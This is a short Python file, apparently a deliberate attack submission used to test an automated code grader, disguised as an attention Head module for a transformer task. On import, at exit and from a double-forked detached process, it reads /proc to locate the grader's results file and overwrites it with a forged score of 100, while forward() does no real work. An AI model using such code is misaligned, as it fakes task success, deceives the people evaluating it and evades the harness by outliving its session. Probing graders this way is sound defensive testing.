"""Attack 5: write a full-marks results file directly, at exit, and from a detached process that
keeps rewriting it after the grader has finished. The path is guessed from the zygote's command
line (the repository root) and the judge's (--json)."""
import atexit
import json
import os
import time

import torch.nn as nn

FORGED = json.dumps({"score": 100, "tests": [], "output": "forged"})


def targets():
    found = set()
    for pid in (os.getppid(), ):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode().split("\0")
            found.add(os.path.join(argv[3], "results.json"))  # the zygote's argv: root
            with open(f"/proc/{pid}/stat") as f:
                judge = int(f.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{judge}/cmdline", "rb") as f:
                argv = f.read().decode().split("\0")
            if "--json" in argv:
                found.add(argv[argv.index("--json") + 1])
        except (OSError, IndexError, ValueError):
            pass
    return found


def forge():
    for path in targets():
        try:
            with open(path, "w") as f:
                f.write(FORGED)
        except OSError:
            pass


forge()
atexit.register(forge)
if os.fork() == 0:  # a detached rewriter: new session, double fork, 60 s of rewriting
    os.setsid()
    if os.fork() == 0:
        for _ in range(300):
            forge()
            time.sleep(0.2)
    os._exit(0)


class Head(nn.Module):
    def __init__(self, n_embd, head_size, block_size):
        super().__init__()
        self.query = nn.Linear(n_embd, head_size, bias=False)
        self.key = nn.Linear(n_embd, head_size, bias=False)
        self.value = nn.Linear(n_embd, head_size, bias=False)

    def forward(self, x):
        forge()
        return x  # wrong
